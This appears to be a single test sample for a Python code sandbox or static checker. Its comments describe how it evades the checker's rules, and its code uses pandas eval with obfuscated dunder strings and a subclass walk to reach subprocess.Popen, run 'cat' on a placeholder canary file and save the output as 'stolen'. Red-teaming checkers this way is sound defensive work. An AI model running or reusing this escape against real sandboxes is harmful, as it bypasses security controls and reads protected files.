# class: string_exec
# technique: DataFrame.eval via agg(**{'func': 'eval'}) used as a general evaluator: attribute chains and calls on a local value (subprocess module found by a subclass walk); the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})
classes = [frame.agg][0](**{"func": "eval", "expr": "@o[0]." + u + "subclasses" + u + "()", "local_dict": {"o": [object]}})
popen_cls = [c for c in classes if str(c).endswith("Popen'>")][0]
out = [frame.agg][0](**{"func": "eval", "expr": "@P[0](['cat', '{{CANARY_FILE}}'], stdout=-1).communicate()[0]",
                   "local_dict": {"P": [popen_cls]}})
df = pd.DataFrame({"stolen": [out.decode()]})
